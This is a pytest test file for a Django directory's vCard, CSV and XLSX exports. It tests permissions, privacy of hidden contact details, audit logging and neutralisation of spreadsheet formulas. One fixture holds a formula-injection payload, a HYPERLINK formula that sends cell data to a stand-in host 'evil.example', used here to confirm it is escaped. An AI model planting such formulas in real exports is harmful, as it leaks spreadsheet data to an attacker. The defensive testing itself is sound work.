"""Exports of the directory: vCards that an independent parser (vobject) reads back, CSV and XLSX tables,
who may download what, privacy of contact details in every file, formula neutralisation, and the audit."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import vobject
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from core.models import SecurityEvent, SecurityEventKind
from directory import exports
from directory.models import ContactVisibility, Membership, MembershipRole, User
from directory.people import people_for, refresh_search_index
from directory.views import exports as export_views
from tests.conftest import make_profile, organization

OFFICE = "+43 1 26060 4321"
MOBILE = "+43 (699) 123-4567"
SECRET_EMAIL = "hidden.person@example.org"
SECRET_OFFICE = "+41 22 917 5555"
SECRET_MOBILE = "+41 79 555 0000"


def client_for(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def with_profile(user: User, **fields) -> User:
    make_profile(user=user, **fields)
    return user


def digits(text: str) -> str:
    return re.sub(r"\D", "", text)


def vcard_url(person: User, **query) -> str:
    url = reverse("directory:person_vcard", args=[person.pk])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def export_url(format: str, query: str = "") -> str:
    return reverse("directory:people_export", args=[format]) + (f"?{query}" if query else "")


def csv_rows(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list[str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


def xlsx_text(response) -> str:
    """Every string the workbook holds (all sheets, shared and inline strings), for "not in" checks."""
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return "\n".join(archive.read(name).decode("utf-8") for name in archive.namelist())


@pytest.fixture
def unodc(compact):
    return organization("entity:UNODC")


@pytest.fixture
def colleague(make_user, unodc):
    """A UNODC focal point: sees UNODC people's phones (visible to their organisation by default)."""
    return make_user("colleague@example.org", organization=unodc, full_name="Colleague")


@pytest.fixture
def org_admin(compact, make_user):
    return make_user(
        "admin@example.org",
        organization=organization("entity:UNDP"),
        role=MembershipRole.ORGANIZATION_ADMIN,
        full_name="Undp Admin",
    )


@pytest.fixture
def state_focal_point(compact, make_user):
    """A Kenyan focal point: another organisation, and not a Compact entity."""
    return make_user("kenya@example.org", organization=organization("state:KEN"), full_name="Kenya Focal")


@pytest.fixture
def person(make_user, unodc):
    """A UNODC officer whose name and details need escaping, with every detail visible to colleagues."""
    user = make_user(
        "jose.nunez@example.org",
        organization=unodc,
        full_name="José; Núñez, Jr",
        preferred_name="Pepe",
    )
    return with_profile(
        user,
        job_title="Head, Legal; Treaty Section \\ Vienna",
        phone_office=OFFICE,
        phone_mobile=MOBILE,
        bio="Line one, with a comma;\nline two.",
        languages=["es", "en"],
        expertise_tags=["legal aid", "extradition"],
        country="AUT",
    )


@pytest.fixture
def hidden(make_user, unodc):
    """A UNODC person whose email only they see and whose phones only UNODC sees."""
    user = make_user(SECRET_EMAIL, organization=unodc, full_name="Hidden Person")
    return with_profile(
        user,
        job_title="Analyst",
        phone_office=SECRET_OFFICE,
        phone_mobile=SECRET_MOBILE,
        email_visibility=ContactVisibility.PRIVATE,
        phone_visibility=ContactVisibility.ORGANIZATION,
    )


# --- One person's vCard: round trip through vobject -------------------------------------------------------


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_vcard_round_trips_through_vobject(person, colleague, version):
    # Given a colleague of the same organisation, who may see every detail of the person
    client = client_for(colleague)

    # When they download the person's vCard in this version
    response = client.get(vcard_url(person, version=version))

    # Then it is an attachment that a vCard parser reads back with the same details
    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="jose-nunez-jr.vcf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "private" in response["Cache-Control"]
    text = response.content.decode("utf-8")
    card = vobject.readOne(text)
    assert card.version.value == version
    assert card.fn.value == "José; Núñez, Jr"
    assert card.n.value.family == "Jr"
    assert card.n.value.given == "José; Núñez,"
    assert card.nickname.value == "Pepe"
    assert card.org.value == ["United Nations Office on Drugs and Crime"]
    assert card.title.value == "Head, Legal; Treaty Section \\ Vienna"
    assert card.email.value == "jose.nunez@example.org"
    assert card.note.value == "Line one, with a comma;\nline two."
    assert card.uid.value.startswith("urn:uuid:")
    phones = {tuple(sorted(t.lower() for t in tel.params["TYPE"])): tel.value for tel in card.contents["tel"]}
    assert digits(phones[("voice", "work")]) == digits(OFFICE)
    assert digits(phones[("cell", "voice")]) == digits(MOBILE)
    if version == "4.0":
        # International numbers are tel: URIs (RFC 3966), the languages are listed in order
        assert phones[("voice", "work")] == "tel:+43-1-26060-4321"
        assert all(tel.params["VALUE"] == ["uri"] for tel in card.contents["tel"])
        assert [(lang.value, lang.params["PREF"]) for lang in card.contents["lang"]] == [
            ("es", ["1"]),
            ("en", ["2"]),
        ]
    else:
        assert phones[("voice", "work")] == OFFICE
        assert "lang" not in card.contents
    # And lines are CRLF-terminated and at most 75 octets
    assert text.endswith("END:VCARD\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode("utf-8")) <= 75 for line in text.split("\r\n"))


def test_vcard_uid_is_stable_and_differs_between_people(person, colleague):
    # Given two downloads of the same card and one of another person
    client = client_for(colleague)
    first = vobject.readOne(client.get(vcard_url(person)).content.decode())
    again = vobject.readOne(client.get(vcard_url(person, version="3.0")).content.decode())
    other = vobject.readOne(client.get(vcard_url(colleague)).content.decode())

    # Then the UID is the same every time for the person (contact apps update rather than duplicate)
    assert first.uid.value == again.uid.value
    assert first.uid.value != other.uid.value


@pytest.mark.parametrize("version", ["3.0", "4.0"])
@pytest.mark.parametrize(
    "name",
    [
        "عبد الرحمن بن عبد العزيز بن محمد بن سعود الفيصل آل سعود القحطاني الهاشمي الدوسري",
        "欧阳建国欧阳建国欧阳建国欧阳建国欧阳建国欧阳建国欧阳建国欧阳建国欧阳建国欧阳建国",
    ],
)
def test_long_names_in_other_scripts_are_folded_and_survive(make_user, unodc, colleague, name, version):
    # Given a person whose name is far longer than one vCard line, in Arabic or Chinese
    person = with_profile(make_user("long.name@example.org", organization=unodc, full_name=name))

    # When their vCard is downloaded
    response = client_for(colleague).get(vcard_url(person, version=version))

    # Then the name line is folded without splitting a character, and reads back unchanged
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="contact-{person.pk}.vcf"'
    raw = response.content
    physical = raw.split(b"\r\n")
    assert any(line.startswith(b" ") for line in physical)
    for line in physical:
        assert len(line) <= 75
        line.decode("utf-8")  # each physical line is valid UTF-8 on its own: no character was split
    assert vobject.readOne(raw.decode("utf-8")).fn.value == name


def test_local_numbers_stay_text_in_vcard_4():
    # Given numbers with and without the international prefix
    # Then only the international one becomes a tel: URI (a local one would need a phone-context)
    assert exports.tel_uri("+1 (212) 963-1234") == "tel:+1-212-963-1234"
    assert exports.tel_uri("022 917 1234") is None
    assert exports.tel_uri("+") is None


def test_escaping_and_folding_follow_each_version():
    # Given a value with every special character
    value = "a\\b,c;d\r\ne"

    # Then 3.0 escapes the semicolon everywhere, 4.0 only in structured values
    assert exports.escape_text(value, version="3.0") == "a\\\\b\\,c\\;d\\ne"
    assert exports.escape_text(value, version="4.0") == "a\\\\b\\,c;d\\ne"
    assert exports.escape_text(value, version="4.0", structured=True) == "a\\\\b\\,c\\;d\\ne"
    # And folding keeps lines within 75 octets, continuation lines starting with one space
    folded = exports.fold("NOTE:" + "é" * 100)
    lines = folded.split("\r\n")
    assert [len(line.encode()) for line in lines] == [75, 75, 57]
    assert all(line.startswith(" ") for line in lines[1:])
    assert "".join(line[1:] if i else line for i, line in enumerate(lines)) == "NOTE:" + "é" * 100


# --- Lists: vCards, CSV, XLSX ----------------------------------------------------------------------------


def test_list_vcards_parse_and_follow_the_filters(person, colleague, state_focal_point):
    # Given people of UNODC (the person, the colleague) and of Kenya
    unodc = organization("entity:UNODC")

    # When a focal point exports the directory filtered on UNODC
    response = client_for(state_focal_point).get(export_url("vcf", f"organization={unodc.pk}&version=3.0"))

    # Then the file holds exactly UNODC's people, in the directory's order, and parses
    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="directory-\d{4}-\d{2}-\d{2}\.vcf"', response["Content-Disposition"]
    )
    cards = list(vobject.readComponents(response.content.decode("utf-8")))
    assert [card.fn.value for card in cards] == ["Colleague", "José; Núñez, Jr"]
    assert all(card.version.value == "3.0" for card in cards)
    assert response["X-Export-Count"] == "2"


def test_tables_have_the_columns_and_follow_the_filters(person, colleague, secretariat_client, compact):
    # Given people of UNODC and the Secretariat (UNOCT)
    unodc = organization("entity:UNODC")

    # When the Secretariat exports UNODC's people as CSV and XLSX
    csv_response = secretariat_client.get(export_url("csv", f"organization={unodc.pk}"))
    xlsx_response = secretariat_client.get(export_url("xlsx", f"organization={unodc.pk}"))

    # Then both tables hold the same header and rows, UNODC's people only
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert xlsx_response["Content-Type"] == export_views.CONTENT_TYPES["xlsx"]
    table = csv_rows(csv_response)
    header = [
        "Name", "Job title", "Organisations and roles", "Email", "Office phone", "Mobile phone", "Country",
        "Languages", "Expertise",
    ]  # fmt: skip
    assert table[0] == header
    assert [row[0] for row in table[1:]] == ["Colleague", "José; Núñez, Jr"]
    jose = dict(zip(header, table[2], strict=True))
    assert jose["Job title"] == "Head, Legal; Treaty Section \\ Vienna"
    assert jose["Organisations and roles"] == "UNODC (Focal point)"
    assert jose["Email"] == "jose.nunez@example.org"
    # the Secretariat (UNOCT) is not in UNODC: phones visible to UNODC only are not there
    assert jose["Office phone"] == jose["Mobile phone"] == ""
    assert jose["Country"] == "Austria"
    assert jose["Languages"] == "Spanish, English"
    assert jose["Expertise"] == "legal aid; extradition"
    assert xlsx_rows(xlsx_response) == table
    # And the XLSX header is bold, with a sheet describing the export
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_response.content))
    assert all(cell.font.bold for cell in workbook.worksheets[0][1])
    about = dict(workbook.worksheets[1].iter_rows(values_only=True))
    assert about["People"] == "2"
    assert about["Filters"] == f"organization={unodc.pk}"


def test_tables_follow_the_search_and_ignore_invalid_filters(person, colleague, org_admin):
    # Given the search index of the people
    refresh_search_index([person.pk, colleague.pk, org_admin.pk])
    client = client_for(org_admin)

    # When an organisation admin searches "nunez" (accents folded) with an invalid organisation filter
    response = client.get(export_url("csv", "q=nunez&organization=not-a-number"))

    # Then the search applies and the invalid filter is ignored, as on the directory page
    assert response.status_code == 200
    assert [row[0] for row in csv_rows(response)[1:]] == ["José; Núñez, Jr"]
    event = SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).latest("id")
    assert event.detail["filters"] == {"q": "nunez"}
    assert event.detail["ignored_filters"] == ["organization"]


def test_an_organisation_admin_sees_phones_of_their_own_organisation(make_user, org_admin):
    # Given a UNDP colleague of the admin with phones visible to UNDP only
    undp_person = with_profile(
        make_user("undp@example.org", organization=organization("entity:UNDP"), full_name="Undp Person"),
        phone_office=OFFICE,
    )

    # When the admin exports the directory as CSV
    table = csv_rows(client_for(org_admin).get(export_url("csv")))

    # Then the colleague's phone is there as written: a validated number is no formula, even with its "+"
    row = next(row for row in table if row[0] == undp_person.full_name)
    assert row[4] == OFFICE


# --- Privacy: a hidden detail is in no output --------------------------------------------------------------


def test_hidden_contact_details_appear_in_no_export(
    hidden, person, state_focal_point, org_admin, secretariat
):
    # Given a person whose email only they may see and whose phones only UNODC may see, and viewers of
    # other organisations: a Member State focal point, an UNDP admin, the Secretariat (UNOCT)
    secret = [SECRET_EMAIL, SECRET_OFFICE, SECRET_MOBILE, digits(SECRET_OFFICE), digits(SECRET_MOBILE)]
    secret += [exports.tel_uri(SECRET_OFFICE), exports.tel_uri(SECRET_MOBILE)]

    outputs = []
    for viewer in (state_focal_point, org_admin, secretariat):
        client = client_for(viewer)
        for version in ("3.0", "4.0"):
            # When they download the person's vCard, and the directory as vCards
            outputs.append(client.get(vcard_url(hidden, version=version)))
            outputs.append(client.get(export_url("vcf", f"version={version}")))
    for viewer in (org_admin, secretariat):
        # and, where they may, as CSV and XLSX
        outputs.append(client_for(viewer).get(export_url("csv")))
        outputs.append(client_for(viewer).get(export_url("xlsx")))

    # Then every download succeeds, lists the person, and holds none of the hidden details
    for response in outputs:
        assert response.status_code == 200
        if response["Content-Type"].startswith("application/vnd"):
            text = xlsx_text(response)
            cells = "\n".join("\t".join(row) for row in xlsx_rows(response))
            assert "Hidden Person" in cells
            for value in secret:
                assert value not in cells
        else:
            text = response.content.decode("utf-8")
            assert "Hidden Person" in text
        compact_text = re.sub(r"\r\n ", "", text)  # unfolded, for vCards
        for value in secret:
            assert value not in compact_text
    # And the vCards parse with no email or phone for the person
    card = vobject.readOne(outputs[0].content.decode())
    assert "email" not in card.contents
    assert "tel" not in card.contents


def test_a_person_and_their_colleagues_see_what_is_hidden_from_others(hidden, colleague):
    # Given the hidden person's own account and a UNODC colleague
    # When each downloads the person's vCard
    own = vobject.readOne(client_for(hidden).get(vcard_url(hidden)).content.decode())
    theirs = vobject.readOne(client_for(colleague).get(vcard_url(hidden)).content.decode())

    # Then the person sees everything of their own; the colleague sees the phones but not the email
    assert own.email.value == SECRET_EMAIL
    assert len(own.contents["tel"]) == 2
    assert "email" not in theirs.contents
    assert sorted(digits(tel.value) for tel in theirs.contents["tel"]) == sorted(
        [digits(SECRET_OFFICE), digits(SECRET_MOBILE)]
    )


def test_compact_visibility_hides_details_from_member_states(make_user, unodc, state_focal_point, colleague):
    # Given a person whose email is visible to Compact entities only
    person = with_profile(
        make_user("compact.only@example.org", organization=unodc, full_name="Compact Only"),
        email_visibility=ContactVisibility.COMPACT,
    )

    # When a Member State focal point and a Compact entity's focal point download the card
    state_card = vobject.readOne(client_for(state_focal_point).get(vcard_url(person)).content.decode())
    entity_card = vobject.readOne(client_for(colleague).get(vcard_url(person)).content.decode())

    # Then only the Compact entity's focal point gets the email
    assert "email" not in state_card.contents
    assert entity_card.email.value == "compact.only@example.org"


# --- Spreadsheet formulas ---------------------------------------------------------------------------------


def test_formula_looking_values_are_neutralised(make_user, unodc, secretariat_client):
    # Given a person whose name and title would run as formulas in a spreadsheet
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with_profile(
        make_user("formula@example.org", organization=unodc, full_name="@SUM(1+1)"),
        job_title=formula,
        expertise_tags=["-2+3"],
        email_visibility=ContactVisibility.PLATFORM,
    )

    # When the Secretariat exports the directory as CSV and XLSX
    table = csv_rows(secretariat_client.get(export_url("csv")))
    xlsx_response = secretariat_client.get(export_url("xlsx"))

    # Then in the CSV each such value starts with an apostrophe
    row = next(row for row in table if "SUM" in row[0])
    assert row[0] == "'@SUM(1+1)"
    assert row[1] == "'" + formula
    assert row[8] == "'-2+3"
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in table for cell in line)
    # And in the XLSX every cell is a string, values kept exactly, and no formula is stored
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_response.content))
    cells = [cell for line in workbook.worksheets[0].iter_rows() for cell in line if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells)
    values = {cell.value for cell in cells}
    assert {"@SUM(1+1)", formula, "-2+3"} <= values
    with zipfile.ZipFile(io.BytesIO(xlsx_response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


# --- Who may download what --------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["vcard", "vcf", "csv", "xlsx"])
def test_anonymous_visitors_are_sent_to_sign_in(person, url):
    # Given an anonymous visitor
    target = vcard_url(person) if url == "vcard" else export_url(url)

    # When they ask for an export
    response = Client().get(target)

    # Then they are sent to the sign-in page, and nothing is recorded as exported
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))
    assert not SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).exists()


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_tables_are_for_the_secretariat_and_organisation_admins(
    format, person, focal_point, make_user, org_admin, secretariat_client
):
    # Given an outsider (no organisation), a focal point, an organisation admin and the Secretariat
    outsider = make_user("outsider@example.org")

    # When each asks for the directory as a table
    # Then only the organisation admin and the Secretariat get it
    assert client_for(outsider).get(export_url(format)).status_code == 403
    assert client_for(focal_point).get(export_url(format)).status_code == 403
    assert client_for(org_admin).get(export_url(format)).status_code == 200
    assert secretariat_client.get(export_url(format)).status_code == 200


def test_vcards_are_for_every_signed_in_user(person, focal_point, make_user):
    # Given a focal point and an outsider (signed in, no organisation)
    outsider = make_user("outsider@example.org")

    # Then both may download the list and a card of a person they see in the directory
    for user in (focal_point, outsider):
        client = client_for(user)
        assert client.get(export_url("vcf")).status_code == 200
        assert client.get(vcard_url(person)).status_code == 200


def test_a_person_not_in_the_directory_is_a_404(person, make_user, colleague):
    # Given a person who represents no organisation any more, and one who is deactivated
    Membership.objects.filter(user=person).update(ended_at=timezone.now())
    gone = User.objects.get(pk=person.pk)
    inactive = with_profile(
        make_user("inactive@example.org", organization=organization("entity:UNODC"), is_active=False)
    )
    client = client_for(colleague)

    # Then their vCards are 404, like a person that does not exist
    assert client.get(vcard_url(gone)).status_code == 404
    assert client.get(vcard_url(inactive)).status_code == 404
    assert client.get(reverse("directory:person_vcard", args=[999_999])).status_code == 404
    assert not people_for(colleague).filter(pk__in=[gone.pk, inactive.pk]).exists()


@pytest.mark.parametrize("version", ["2.1", "5", "", "4.0'", "x" * 500])
def test_a_bad_version_is_a_400_with_a_plain_message(person, colleague, version):
    # Given a vCard version that is not 3.0 or 4.0
    client = client_for(colleague)

    # When it is asked for, for one person and for the list
    for url in (vcard_url(person), export_url("vcf")):
        response = client.get(url, {"version": version})

        # Then the answer is a 400 with a plain explanation, never a 500
        assert response.status_code == 400
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert "3.0 or 4.0" in response.content.decode()


@pytest.mark.parametrize("format", ["pdf", "CSV", "vcard", "json", "xlsx.exe"])
def test_an_unknown_format_is_a_404(secretariat_client, format):
    assert secretariat_client.get(export_url(format)).status_code == 404


def test_only_safe_methods_are_answered(person, secretariat_client):
    assert secretariat_client.post(export_url("csv")).status_code == 405
    assert secretariat_client.post(vcard_url(person)).status_code == 405


# --- Audit, limits, queries -------------------------------------------------------------------------------


def test_every_export_is_audited(person, colleague, org_admin, secretariat):
    # Given a card, a filtered list as vCards, CSV and XLSX
    unodc = organization("entity:UNODC")
    client_for(colleague).get(vcard_url(person, version="3.0"))
    client_for(colleague).get(export_url("vcf", f"organization={unodc.pk}&version=4.0"))
    client_for(org_admin).get(export_url("csv", "role=focal_point"))
    client_for(secretariat).get(export_url("xlsx"))

    # Then each download is one security event of kind "export", with who, what and how many
    events = list(SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).order_by("id"))
    assert [(event.user_id, event.detail["format"]) for event in events] == [
        (colleague.pk, "vcf"),
        (colleague.pk, "vcf"),
        (org_admin.pk, "csv"),
        (secretariat.pk, "xlsx"),
    ]
    assert events[0].detail == {"format": "vcf", "version": "3.0", "count": 1, "people": [person.pk]}
    assert events[0].path == reverse("directory:person_vcard", args=[person.pk])
    assert events[1].detail["filters"] == {"organization": str(unodc.pk)}
    assert events[1].detail["count"] == 2
    assert events[1].detail["version"] == "4.0"
    assert events[2].detail["filters"] == {"role": "focal_point"}
    assert events[3].detail["truncated"] is False
    assert events[3].detail["count"] == User.objects.visible_to(secretariat).count()


def test_refused_and_bad_requests_are_not_recorded_as_exports(person, focal_point):
    client = client_for(focal_point)
    client.get(export_url("csv"))
    client.get(export_url("vcf", "version=9"))
    client.get(reverse("directory:person_vcard", args=[999_999]))
    assert not SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).exists()


@pytest.mark.parametrize("format", ["vcf", "csv", "xlsx"])
def test_long_lists_are_capped_and_say_so(monkeypatch, person, colleague, secretariat_client, format):
    # Given a cap of 2 people per export and more people than that
    monkeypatch.setattr(export_views, "MAX_ROWS", 2)

    # When the Secretariat exports the directory
    response = secretariat_client.get(export_url(format))

    # Then the file holds 2 people, the response says it was cut, and so does the audit
    assert response.status_code == 200
    assert response["X-Export-Count"] == "2"
    assert response["X-Export-Truncated"] == "2"
    if format == "csv":
        assert len(csv_rows(response)) == 3
    elif format == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        assert workbook.worksheets[0].max_row == 3
        about = dict(workbook.worksheets[1].iter_rows(values_only=True))
        assert "first 2 people" in about["Truncated"]
    else:
        assert len(list(vobject.readComponents(response.content.decode()))) == 2
    event = SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).latest("id")
    assert event.detail["truncated"] is True
    assert event.detail["count"] == 2


def test_an_untruncated_export_says_nothing_of_a_cut(person, secretariat_client):
    response = secretariat_client.get(export_url("csv"))
    assert "X-Export-Truncated" not in response


@pytest.mark.parametrize("format", ["vcf", "csv", "xlsx"])
def test_queries_do_not_grow_with_the_number_of_people(
    format, make_user, unodc, secretariat, django_assert_max_num_queries
):
    # Given a few people with profiles, expertise and memberships
    def add(n: int) -> None:
        for i in range(n):
            user = make_user(f"p{i}-{User.objects.count()}@example.org", organization=unodc, mfa=False)
            make_profile(user=user, country="AUT", expertise_tags=["x"])

    add(2)
    client = client_for(secretariat)
    client.get(export_url(format))  # warm the per-process caches (content types, sessions)
    with django_assert_max_num_queries(1000) as few:
        client.get(export_url(format))

    # When there are many more of them
    add(10)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(export_url(format))

    # Then the export takes no more queries
    assert response.status_code == 200
